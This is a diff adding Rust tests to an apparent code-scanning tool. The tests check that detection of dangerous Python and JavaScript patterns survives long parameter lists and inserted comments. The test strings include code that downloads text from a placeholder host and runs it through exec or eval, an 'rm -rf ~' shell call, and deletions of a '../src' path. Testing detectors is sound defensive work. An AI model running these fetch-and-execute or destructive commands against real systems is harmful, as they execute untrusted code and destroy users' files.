@@ -152,12 +152,74 @@ fn no_target_is_too_many() {
 }
 
 #[test]
+fn a_parameter_behind_many_others_keeps_the_marks_of_its_argument() {
+    for count in [1, 70] {
+        let names: String = (0..count).map(|at| format!("n{at}, ")).collect();
+        let zeros = "0, ".repeat(count);
+        let head = "import requests\nd = requests.get('http://e.example').text\n";
+        let fetched = "const d = await (await fetch('http://e.example')).text();";
+        for (language, rule, text) in [
+            ("python", "py.eval-decoded", format!("{head}def f({names}p):\n    exec(p)\nf({zeros}d)\n")),
+            ("python", "py.eval-decoded", format!("{head}def f({names}p):\n    exec(p)\nf({zeros}p=d)\n")),
+            (
+                "python",
+                "py.eval-decoded",
+                format!("{head}def f({names}*p):\n    exec(p[1])\nf({zeros}0, d)\n"),
+            ),
+            (
+                "javascript",
+                "js.eval-decoded",
+                format!("async function g() {{ {fetched} function f({names}p) {{ eval(p) }} f({zeros}d) }}"),
+            ),
+        ] {
+            let review = look(language, &text);
+            let rules: Vec<_> = review.findings.iter().map(|finding| finding.rule.as_str()).collect();
+            assert!(rules.contains(&rule), "{text}: {rules:?}");
+        }
+    }
+}
+
+#[test]
 fn a_text_that_is_too_long_to_be_joined_keeps_the_marks_of_all_its_parts() {
     for length in [1, 17_000] {
         let head = "import requests\nd = requests.get('http://e.example').text";
         let review = look("python", &format!("{head}\nexec(f'{}{{d}}')\n", "a".repeat(length)));
         let rules: Vec<_> = review.findings.iter().map(|finding| finding.rule.as_str()).collect();
         assert!(rules.contains(&"py.eval-decoded"), "{length}: {rules:?}");
+    }
+}
+
+#[test]
+fn a_comment_before_a_value_hides_nothing_of_it() {
+    let downloaded = "requests.get('http://e.example').text";
+    let python = [
+        format!("exec((@{downloaded}))"),
+        format!("exec(*@[{downloaded}])"),
+        format!("x = [*@[{downloaded}]]\nexec(x[0])"),
+        format!("x = {{**@{{'a': {downloaded}}}}}\nexec(x['a'])"),
+        "p = ['build']\n(a, *@p) = ['1', '../src']\nshutil.rmtree(p[0])".to_owned(),
+        "p = ['build']\ndef f(*@p):\n    shutil.rmtree(p[0])\nf('../src')".to_owned(),
+    ];
+    let javascript = [
+        "const f = () => { return @require('child_process') }; f().execSync('rm -rf ~')",
+        "function* f() { yield @'../src' }; for (const p of f()) require('fs').rmSync(p)",
+        "import * as @f from 'fs'; f.rmSync('../src')",
+        "const t = {[@'a']: '../src', b: 'build'}; require('fs').rmSync(t.a)",
+        "let p = ['build']; [a, ...@p] = ['1', '../src']; require('fs').rmSync(p[0])",
+        "let p = ['build']; function f(...@p) { require('fs').rmSync(p[0]) } f('../src')",
+    ];
+    let python = python.iter().map(|text| ("python", "# c\n", format!("import requests, shutil\n{text}\n")));
+    let javascript = javascript.iter().map(|text| ("javascript", "/* c */", (*text).to_owned()));
+    let in_html = "require(@'child_process').execSync('rm -rf ~')".to_owned();
+    for (language, comment, text) in python.chain(javascript).chain([("javascript", "<!-- c\n", in_html)]) {
+        let told = |comment: &str| {
+            let review = look(language, &text.replace('@', comment));
+            let rules = review.findings.iter().map(|finding| finding.rule.clone());
+            (rules.collect::<Vec<String>>(), review.effects)
+        };
+        let without = told("");
+        assert!(!without.0.is_empty(), "{text}");
+        assert_eq!(told(comment), without, "{text}");
     }
 }
 
